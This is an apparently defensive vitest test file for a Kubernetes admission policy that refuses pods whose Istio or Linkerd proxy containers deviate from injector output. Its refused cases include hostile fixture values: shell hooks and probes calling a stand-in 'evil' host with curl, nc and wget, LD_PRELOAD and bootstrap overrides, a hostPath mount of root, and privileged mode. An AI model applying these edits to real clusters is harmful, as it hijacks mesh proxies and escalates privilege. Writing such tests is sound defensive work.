/**
 * Issue 21 §1: a container meshgate counts as the mesh's proxy, init or validation container is exactly what the
 * mesh's injector (or meshgate's template) writes, field by field; the variations a pod may make are listed in
 * src/policy/judge/ with a reason each. The bases are the meshes' own injector outputs (shared/corpus: Istio's
 * native-sidecar hello.yaml.injected, Linkerd's inject_emojivoto_pod.golden.yaml); each row changes one thing a
 * determined pod author would change to run code as the proxy, from files it supplies, or past the redirect, and
 * both webhooks must refuse it.
 */
import { describe, expect, it } from 'vitest';
import { decide } from '../../src/policy/mutate/decide.ts';
import { checkPosture } from '../../src/policy/posture.ts';
import type { Container, Pod } from '../../src/contract/pod.ts';
import { cfg, input, verified } from './mutate/fixtures.ts';
import {
  containerNamed as container,
  istioInjected as istioBase,
  linkerdInjected as linkerdBase,
} from '../support/corpus.ts';

type Edit = (p: Pod) => void;

/** The container's volumeMounts, typed as what the tests push and read. */
const mountsOf = (c: Container) => c.volumeMounts as Array<Record<string, unknown>>;
const env = (p: Pod, name: string, e: Record<string, unknown>) => {
  container(p, name).env = [...(container(p, name).env ?? []), e as never];
};
const annotate = (p: Pod, key: string, value: string) => {
  p.metadata = { ...p.metadata, annotations: { ...(p.metadata?.annotations ?? {}), [key]: value } };
};

function judged(mesh: 'istio' | 'linkerd', p: Pod) {
  const c = cfg(mesh);
  return { posture: checkPosture(input(p), verified, c), decision: decide(input(p), verified, c) };
}

describe("the meshes' own injector outputs pass as they are", () => {
  it.each([
    ['istio', istioBase],
    ['linkerd', linkerdBase],
  ] as const)('%s', (mesh, make) => {
    const { posture, decision } = judged(mesh, make());
    expect(posture.ok ? 'ok' : `${posture.reason}: ${posture.message}`).toBe('ok');
    expect(decision.kind).not.toBe('deny');
  });
});

/** [case, mesh, base, edit, reason, message] */
const refused: Array<[string, 'istio' | 'linkerd', () => Pod, Edit, string, RegExp]> = [
  // what runs
  [
    'istio-proxy with the real image and a shell command',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').command = ['/bin/sh', '-c', 'curl evil'];
    },
    'impostor_container',
    /istio-proxy .*command is \["\/bin\/sh"/,
  ],
  [
    'istio-proxy args adding --templateFile',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').args!.push('--templateFile=/etc/x/t.json');
    },
    'impostor_container',
    /--templateFile: Envoy's bootstrap would be rendered from a template the pod supplies/,
  ],
  [
    'a log level carrying more than a level (template injection)',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').args![4] = '--proxyLogLevel=warning\n    command: [sh]';
    },
    'impostor_container',
    /--proxyLogLevel the value/,
  ],
  [
    'a postStart exec hook on the proxy',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').lifecycle = { postStart: { exec: { command: ['sh', '-c', 'nc evil 443'] } } };
    },
    'impostor_container',
    /lifecycle .postStart runs \["sh","-c","nc evil 443"\]/,
  ],
  [
    'a preStop exec hook that is not the drain',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').lifecycle = {
        preStop: { exec: { command: ['pilot-agent', 'request', 'POST', 'quitquitquit'] } },
      };
    },
    'impostor_container',
    /preStop runs/,
  ],
  [
    'an exec liveness probe on the proxy',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').livenessProbe = { exec: { command: ['sh', '-c', 'wget evil'] } };
    },
    'impostor_container',
    /sets livenessProbe, which Istio's injector never sets/,
  ],
  [
    'an exec readiness probe on the proxy',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').readinessProbe = { exec: { command: ['sh'] } };
    },
    'impostor_container',
    /readinessProbe runs a command \(exec/,
  ],
  [
    'an exec startup probe on the proxy',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').startupProbe = { exec: { command: ['sh'] }, periodSeconds: 1 };
    },
    'impostor_container',
    /startupProbe runs a command/,
  ],
  [
    'a readiness probe asking another host',
    'istio',
    istioBase,
    (p) => {
      (container(p, 'istio-proxy').readinessProbe as { httpGet: Record<string, unknown> }).httpGet.host = 'evil';
    },
    'impostor_container',
    /httpGet sets host/,
  ],
  [
    'workingDir on the proxy (its config paths are relative)',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').workingDir = '/tmp/x';
    },
    'impostor_container',
    /sets workingDir/,
  ],
  [
    'envFrom on the proxy (unseen variables)',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').envFrom = [{ configMapRef: { name: 'x' } }];
    },
    'impostor_container',
    /sets envFrom/,
  ],
  [
    'a tty and stdin on the proxy',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').stdin = true;
    },
    'impostor_container',
    /sets stdin/,
  ],
  [
    'volumeDevices on the proxy',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').volumeDevices = [{ name: 'd', devicePath: '/dev/xvda' }];
    },
    'impostor_container',
    /sets volumeDevices/,
  ],
  // with which files
  [
    'a ConfigMap mounted over the proxy binaries',
    'istio',
    istioBase,
    (p) => {
      p.spec.volumes!.push({ name: 'bin', configMap: { name: 'x' } });
      mountsOf(container(p, 'istio-proxy')).push({ name: 'bin', mountPath: '/usr/local/bin' });
    },
    'impostor_container',
    /\/usr\/local\/bin is inside \/usr/,
  ],
  [
    'a mount over /etc (ld.so.preload)',
    'istio',
    istioBase,
    (p) => {
      p.spec.volumes!.push({ name: 'etc', configMap: { name: 'x' } });
      mountsOf(container(p, 'istio-proxy')).push({ name: 'etc', mountPath: '/etc' });
    },
    'impostor_container',
    /\/etc would cover \/etc\/istio/,
  ],
  [
    'istio-envoy (where the bootstrap goes) backed by a ConfigMap',
    'istio',
    istioBase,
    (p) => {
      p.spec.volumes = p.spec.volumes!.map((v) =>
        v.name === 'istio-envoy' ? { name: 'istio-envoy', configMap: { name: 'evil-bootstrap' } } : v,
      );
    },
    'impostor_container',
    /istio-envoy at \/etc\/istio\/proxy, but the pod's volume istio-envoy is .*not an emptyDir/,
  ],
  [
    'istio-podinfo (pilot-agent reads proxy.istio.io/config there) backed by a ConfigMap',
    'istio',
    istioBase,
    (p) => {
      p.spec.volumes = p.spec.volumes!.map((v) =>
        v.name === 'istio-podinfo' ? { name: 'istio-podinfo', configMap: { name: 'fake-annotations' } } : v,
      );
    },
    'impostor_container',
    /istio-podinfo .*not the downward API volume/,
  ],
  [
    'a sub-path into the bootstrap directory',
    'istio',
    istioBase,
    (p) => {
      const m = mountsOf(container(p, 'istio-proxy')).find((x) => x.name === 'istio-envoy') as Record<string, unknown>;
      m.subPath = 'x';
    },
    'impostor_container',
    /mount istio-envoy sets subPath/,
  ],
  [
    'a hostPath userVolumeMount',
    'istio',
    istioBase,
    (p) => {
      p.spec.volumes!.push({ name: 'host', hostPath: { path: '/' } });
      mountsOf(container(p, 'istio-proxy')).push({ name: 'host', mountPath: '/host' });
    },
    'impostor_container',
    /a hostPath/,
  ],
  [
    'sidecar.istio.io/bootstrapOverride',
    'istio',
    istioBase,
    (p) => annotate(p, 'sidecar.istio.io/bootstrapOverride', 'my-bootstrap'),
    'proxy_config_refused',
    /bootstrapOverride=my-bootstrap: Envoy would start from a bootstrap the pod supplies/,
  ],
  [
    'proxy.istio.io/config with customConfigFile',
    'istio',
    istioBase,
    (p) => annotate(p, 'proxy.istio.io/config', 'customConfigFile: /etc/custom/envoy.json'),
    'proxy_config_refused',
    /sets customConfigFile: a pod may set only/,
  ],
  [
    'proxy.istio.io/config with binaryPath (snake case)',
    'istio',
    istioBase,
    (p) => annotate(p, 'proxy.istio.io/config', '{"binary_path": "/tmp/evil"}'),
    'proxy_config_refused',
    /sets binaryPath/,
  ],
  [
    'proxy.istio.io/config pointing at another control plane',
    'istio',
    istioBase,
    (p) => annotate(p, 'proxy.istio.io/config', 'discoveryAddress: evil.example:15012'),
    'proxy_config_refused',
    /sets discoveryAddress/,
  ],
  [
    'proxy.istio.io/config tracing to an address the proxy dials unredirected',
    'istio',
    istioBase,
    (p) => annotate(p, 'proxy.istio.io/config', 'tracing: {zipkin: {address: evil:9411}}'),
    'proxy_config_refused',
    /sets tracing/,
  ],
  [
    'proxyMetadata LD_PRELOAD',
    'istio',
    istioBase,
    (p) => annotate(p, 'proxy.istio.io/config', 'proxyMetadata: {ISTIO_BOOTSTRAP_OVERRIDE: /x}'),
    'proxy_config_refused',
    /proxyMetadata ISTIO_BOOTSTRAP_OVERRIDE: Envoy would start from a bootstrap the pod supplies/,
  ],
  [
    'PROXY_CONFIG env with customConfigFile',
    'istio',
    istioBase,
    (p) => {
      const e = container(p, 'istio-proxy').env!.find((x) => x.name === 'PROXY_CONFIG')!;
      e.value = JSON.stringify({ ...JSON.parse(e.value!), customConfigFile: '/x' });
    },
    'impostor_container',
    /PROXY_CONFIG=.*customConfigFile/,
  ],
  [
    'PROXY_CONFIG from a ConfigMap (unreadable at admission)',
    'istio',
    istioBase,
    (p) => env(p, 'istio-proxy', { name: 'PROXY_CONFIG', valueFrom: { configMapKeyRef: { name: 'x', key: 'y' } } }),
    'impostor_container',
    /takes PROXY_CONFIG from .*which admission cannot read/,
  ],
  [
    'ENVOY_PATH on the proxy',
    'istio',
    istioBase,
    (p) => env(p, 'istio-proxy', { name: 'ENVOY_PATH', value: '/tmp/envoy' }),
    'impostor_container',
    /sets ENVOY_PATH: it chooses the Envoy binary/,
  ],
  [
    'LD_PRELOAD on the proxy',
    'istio',
    istioBase,
    (p) => env(p, 'istio-proxy', { name: 'LD_PRELOAD', value: '/opt/x.so' }),
    'impostor_container',
    /sets LD_PRELOAD: the dynamic loader/,
  ],
  [
    'PATH on the proxy (its hooks run pilot-agent through it)',
    'istio',
    istioBase,
    (p) => env(p, 'istio-proxy', { name: 'PATH', value: '/opt/evil' }),
    'impostor_container',
    /sets PATH/,
  ],
  [
    'POD_NAMESPACE as a literal (identity from the pod, not the downward API)',
    'istio',
    istioBase,
    (p) => env(p, 'istio-proxy', { name: 'POD_NAMESPACE', value: 'istio-system' }),
    'impostor_container',
    /sets POD_NAMESPACE to a literal/,
  ],
  ...['1', 't', 'T', 'TRUE', 'true', 'True'].map((v): [string, 'istio', () => Pod, Edit, string, RegExp] => [
    `DISABLE_ENVOY=${v} (Go's ParseBool)`,
    'istio',
    istioBase,
    (p) => env(p, 'istio-proxy', { name: 'DISABLE_ENVOY', value: v }),
    // Envoy switched off is Istio's proxyless gRPC: an opt-out with its own code (issue 31 §1).
    'proxyless_grpc',
    /istio-proxy's DISABLE_ENVOY=.*: Istio's proxyless gRPC runs its agent without Envoy/,
  ]),
  // as whom
  [
    'istio-proxy privileged',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').securityContext!.privileged = true;
    },
    'impostor_container',
    /securityContext .privileged is true, where the injector writes nothing/,
  ],
  [
    'istio-proxy with an SELinux type',
    'istio',
    istioBase,
    (p) => {
      (container(p, 'istio-proxy').securityContext as Record<string, unknown>).seLinuxOptions = { type: 'spc_t' };
    },
    'impostor_container',
    /seLinuxOptions/,
  ],
  // the init container, through its environment
  [
    'istio-init widening the loopback range it leaves alone',
    'istio',
    () => {
      const p = istioBase();
      p.spec.initContainers = p.spec.initContainers!.filter((c) => c.name !== 'istio-proxy');
      p.spec.containers.push({ ...container(istioBase(), 'istio-proxy'), restartPolicy: undefined });
      return p;
    },
    (p) => env(p, 'istio-init', { name: 'ISTIO_OUTBOUND_IPV4_LOOPBACK_CIDR', value: '127.0.0.0/8' }),
    'impostor_container',
    /ISTIO_OUTBOUND_IPV4_LOOPBACK_CIDR=.*wider loopback range/,
  ],
  // Linkerd
  [
    'linkerd-proxy with a command',
    'linkerd',
    linkerdBase,
    (p) => {
      container(p, 'linkerd-proxy').command = ['/bin/sh', '-c', 'x'];
    },
    'impostor_container',
    /linkerd-proxy .*command is/,
  ],
  [
    'linkerd-proxy with an exec readiness probe',
    'linkerd',
    linkerdBase,
    (p) => {
      container(p, 'linkerd-proxy').readinessProbe = { exec: { command: ['sh'] } };
    },
    'impostor_container',
    /runs a command \(exec/,
  ],
  [
    'linkerd-proxy postStart running a shell',
    'linkerd',
    linkerdBase,
    (p) => {
      container(p, 'linkerd-proxy').lifecycle = { postStart: { exec: { command: ['sh', '-c', 'x'] } } };
    },
    'impostor_container',
    /postStart runs \["sh"/,
  ],
  [
    'linkerd-proxy identity directory from a ConfigMap',
    'linkerd',
    linkerdBase,
    (p) => {
      p.spec.volumes = p.spec.volumes!.map((v) =>
        v.name === 'linkerd-identity-end-entity' ? { name: v.name, configMap: { name: 'keys' } } : v,
      );
    },
    'impostor_container',
    /linkerd-identity-end-entity .*not an emptyDir/,
  ],
  [
    'linkerd-proxy LD_PRELOAD',
    'linkerd',
    linkerdBase,
    (p) => env(p, 'linkerd-proxy', { name: 'LD_PRELOAD', value: '/x.so' }),
    'impostor_container',
    /LD_PRELOAD/,
  ],
  [
    'a Linkerd control-plane label on an app pod',
    'linkerd',
    linkerdBase,
    (p) => {
      p.metadata = { ...p.metadata, labels: { 'linkerd.io/control-plane-component': 'destination' } };
    },
    'proxy_config_refused',
    /exempt the API server's ports/,
  ],
];

describe('a mesh container is what its injector writes, field by field', () => {
  it.each(refused)('%s is refused', (_n, mesh, make, edit, reason, message) => {
    const p = make();
    edit(p);
    const { posture, decision } = judged(mesh, p);
    expect(posture.ok ? 'ok' : `${posture.reason}: ${posture.message}`).toMatch(new RegExp(`^${reason}: `));
    expect(!posture.ok && posture.message).toMatch(message);
    expect(decision.kind === 'deny' ? decision.reason : decision.kind).toBe(reason);
  });
});

/** [case, mesh, base, edit]: variations a real injector or cluster produces, each listed with its reason. */
const admitted: Array<[string, 'istio' | 'linkerd', () => Pod, Edit]> = [
  [
    'image by digest',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').image = `docker.io/istio/proxyv2@sha256:${'a'.repeat(64)}`;
    },
  ],
  [
    'holdApplicationUntilProxyStarts (postStart pilot-agent wait)',
    'istio',
    istioBase,
    (p) => {
      container(p, 'istio-proxy').lifecycle = { postStart: { exec: { command: ['pilot-agent', 'wait'] } } };
    },
  ],
  [
    'proxy.istio.io/config a pod may set',
    'istio',
    istioBase,
    (p) =>
      annotate(
        p,
        'proxy.istio.io/config',
        'holdApplicationUntilProxyStarts: true\nconcurrency: 2\nproxyMetadata:\n  ISTIO_META_DNS_CAPTURE: "true"',
      ),
  ],
  [
    'a policy engine adding seccomp and AppArmor profiles',
    'istio',
    istioBase,
    (p) => {
      Object.assign(container(p, 'istio-proxy').securityContext!, {
        seccompProfile: { type: 'RuntimeDefault' },
        appArmorProfile: { type: 'RuntimeDefault' },
      });
    },
  ],
  [
    'per-pod resources and a resize policy',
    'istio',
    istioBase,
    (p) => {
      Object.assign(container(p, 'istio-proxy'), {
        resources: { requests: { cpu: '50m' } },
        resizePolicy: [{ resourceName: 'cpu', restartPolicy: 'NotRequired' }],
      });
    },
  ],
  [
    'a userVolumeMount of certificates at a fresh path',
    'istio',
    istioBase,
    (p) => {
      p.spec.volumes!.push({ name: 'egress-certs', secret: { secretName: 'c' } });
      mountsOf(container(p, 'istio-proxy')).push({
        name: 'egress-certs',
        mountPath: '/etc/egress-certs',
        readOnly: true,
      });
    },
  ],
  [
    'the ServiceAccount token mount the apiserver adds',
    'istio',
    istioBase,
    (p) => {
      p.spec.volumes!.push({
        name: 'kube-api-access-x7k2p',
        projected: {
          sources: [{ serviceAccountToken: { path: 'token' } }, { configMap: { name: 'kube-root-ca.crt' } }],
        },
      });
      mountsOf(container(p, 'istio-proxy')).push({
        name: 'kube-api-access-x7k2p',
        mountPath: '/var/run/secrets/kubernetes.io/serviceaccount',
        readOnly: true,
      });
    },
  ],
  [
    'apiserver defaults on the proxy',
    'istio',
    istioBase,
    (p) => {
      Object.assign(container(p, 'istio-proxy'), {
        imagePullPolicy: 'IfNotPresent',
        terminationMessagePath: '/dev/termination-log',
        terminationMessagePolicy: 'File',
      });
    },
  ],
  ['DISABLE_ENVOY=false', 'istio', istioBase, (p) => env(p, 'istio-proxy', { name: 'DISABLE_ENVOY', value: 'false' })],
  [
    'linkerd-await postStart and a preStop sleep',
    'linkerd',
    linkerdBase,
    (p) => {
      container(p, 'linkerd-proxy').lifecycle = {
        postStart: { exec: { command: ['/usr/lib/linkerd/linkerd-await', '--timeout=2m', '--port=4191'] } },
        preStop: { exec: { command: ['/bin/sleep', '5'] } },
      };
    },
  ],
  [
    "capabilities the injector copies from the app's first container",
    'linkerd',
    linkerdBase,
    (p) => {
      container(p, 'linkerd-proxy').securityContext!.capabilities = { add: ['NET_BIND_SERVICE'] };
    },
  ],
];

describe('the variations a pod or a cluster legitimately makes pass', () => {
  it.each(admitted)('%s', (_n, mesh, make, edit) => {
    const p = make();
    edit(p);
    const { posture, decision } = judged(mesh, p);
    expect(posture.ok ? 'ok' : `${posture.reason}: ${posture.message}`).toBe('ok');
    expect(decision.kind).not.toBe('deny');
  });
});
